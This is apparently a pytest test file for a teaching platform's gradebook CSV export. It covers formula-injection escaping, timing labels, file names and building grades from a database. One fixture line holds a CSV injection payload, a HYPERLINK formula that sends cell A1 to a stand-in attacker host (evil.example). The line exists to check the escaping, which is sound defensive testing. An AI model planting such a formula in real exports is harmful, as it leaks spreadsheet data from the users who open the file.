"""The gradebook: what it says per learner and exercise, and how the CSV is encoded so a
spreadsheet opens it right and never runs a cell as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker

from pyroad.db import make_engine, make_session_factory
from pyroad.migrate import upgrade
from pyroad.teaching import gradebook
from pyroad.teaching.dashboard import AssignedExercise, Cell
from pyroad.teaching.gradebook import Gradebook, GradebookRow, safe_cell, timing, to_csv
from pyroad.teaching.models import Cohort
from tests.unit.teaching.test_dashboard import CATALOG, DAY, DUE, E1, E2, LONE, NOW, T0, World


@pytest.fixture
def sessions(tmp_path: Path) -> Iterator[sessionmaker[Session]]:
    engine = make_engine(f"sqlite:///{tmp_path / 'gradebook.sqlite3'}")
    upgrade(engine)
    yield make_session_factory(engine)
    engine.dispose()


EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for grades")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_start_a_formula_is_prefixed(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Ada Lovelace", "1+1", "", "ada@example.com", "'quoted", " =x"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def read_back(data: bytes) -> list[list[str]]:
    """As a spreadsheet would: decode (the BOM says UTF-8), split CRLF rows, parse CSV."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def book(names: list[tuple[str, str]], exercise_title: str = "Parse it") -> Gradebook:
    exercise = AssignedExercise("parse-it", exercise_title, 1, DUE, T0)
    grade = gradebook.grade(Cell(2, 1, DUE - DAY, DUE - DAY, "passed"), exercise, NOW)
    rows = [GradebookRow(n, name, email, [grade]) for n, (name, email) in enumerate(names)]
    return Gradebook(1, "Class", NOW, [exercise], rows)


def test_the_csv_has_a_bom_crlf_lines_and_no_live_formula() -> None:
    data = to_csv(
        book(
            [
                (EVIL, "evil@example.com"),
                ('Zoë 李, "the" best\nstudent', "+33@example.com"),
                ("-Dash", "@handle@example.com"),
            ],
            exercise_title="@import",
        )
    )

    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\r\n" in text.replace('"\r\n', "")
    rows = read_back(data)
    assert rows[0][:3] == ["Learner", "E-mail", "Solved"]
    assert rows[0][3] == "'@import (parse-it): best verdict"
    assert rows[1][0] == "'" + EVIL and rows[1][1] == "evil@example.com"
    assert rows[2][0] == 'Zoë 李, "the" best\nstudent' and rows[2][1] == "'+33@example.com"
    assert rows[3][:2] == ["'-Dash", "'@handle@example.com"]
    for row in rows:
        assert not any(cell.startswith(gradebook.FORMULA_STARTS) for cell in row), row
    assert rows[1][3:] == [
        "passed",
        "2",
        (DUE - DAY).strftime("%Y-%m-%d %H:%M:%S"),
        DUE.strftime("%Y-%m-%d %H:%M:%S"),
        "on time",
    ]
    assert rows[1][2] == "1"


def test_timing_compares_the_submission_with_the_due_date() -> None:
    due = DUE
    assert timing(Cell(1, 0, due, due), due, NOW) == "on time"  # at the deadline is on time
    assert timing(Cell(3, 2, due + timedelta(seconds=1), due), due, NOW) == "late"
    assert timing(Cell(2, 2, None, due - DAY), due, NOW) == "overdue"
    assert timing(Cell(2, 2, None, due - DAY), due, due - DAY) == "in progress"
    assert timing(Cell(), due, due - DAY) == "not started"
    assert timing(Cell(), due, NOW) == "overdue"
    assert timing(Cell(), None, NOW) == "not started"
    assert timing(Cell(1, 0, NOW, NOW), None, NOW) == "on time"


def test_the_file_name_is_ascii_whatever_the_cohort_is_called() -> None:
    named = Gradebook(1, 'Zoë\'s "class" / 2026', NOW, [], [])
    assert gradebook.filename(named) == f"gradebook-zo-s-class-2026-{NOW:%Y-%m-%d}.csv"
    assert gradebook.filename(Gradebook(1, "李", NOW, [], [])).startswith("gradebook-cohort-")


def test_built_from_the_database_best_verdict_attempts_and_submitted_at(
    sessions: sessionmaker[Session],
) -> None:
    world = World(sessions)
    ann = world.learner("ann")
    world.submit(ann, E1, "error", DUE - 3 * DAY)
    world.submit(ann, E1, "passed", DUE + DAY)  # the first pass: late
    world.submit(ann, E1, "passed", DUE + 2 * DAY)  # a later pass changes nothing
    world.submit(ann, E2, "timeout", DUE - DAY)
    world.submit(ann, E2, "failed", DUE - 2 * DAY)
    world.submit(ann, LONE, None, NOW - DAY)  # still queued: an attempt, no verdict yet
    world.learner("bob")

    with sessions() as session:
        cohort = session.get(Cohort, world.cohort_id)
        assert cohort is not None
        built = gradebook.build(session, CATALOG, cohort, now=NOW)

    slugs = [exercise.slug for exercise in built.exercises]
    assert slugs[:2] == [E1, E2] and slugs[-1] == LONE
    assert [row.name for row in built.rows] == ["ann", "bob"]
    ann_row = dict(zip(slugs, built.rows[0].grades, strict=True))
    assert ann_row[E1] == gradebook.Grade("passed", 3, DUE + DAY, DUE, "late")
    assert ann_row[E2] == gradebook.Grade("failed", 2, DUE - DAY, DUE, "overdue")
    assert ann_row[LONE] == gradebook.Grade(None, 1, NOW - DAY, None, "in progress")
    assert built.rows[0].solved == 1
    bob_row = dict(zip(slugs, built.rows[1].grades, strict=True))
    assert bob_row[E1] == gradebook.Grade(None, 0, None, DUE, "overdue")
    assert bob_row[LONE].timing == "not started"
    assert len(read_back(to_csv(built))) == 3
